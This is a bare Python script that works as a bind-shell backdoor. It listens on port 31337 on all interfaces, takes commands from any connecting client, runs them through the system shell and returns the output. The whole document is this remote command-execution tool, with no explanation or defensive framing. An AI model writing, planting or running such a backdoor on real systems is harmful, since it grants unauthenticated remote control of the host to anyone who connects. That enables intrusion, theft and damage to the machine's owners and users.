import socket
import subprocess

server = socket.socket()
server.bind(("0.0.0.0", 31337))
server.listen(1)
conn, _ = server.accept()
while True:
    cmd = conn.recv(1024).decode()
    out = subprocess.run(cmd, shell=True, capture_output=True)
    conn.send(out.stdout + out.stderr)
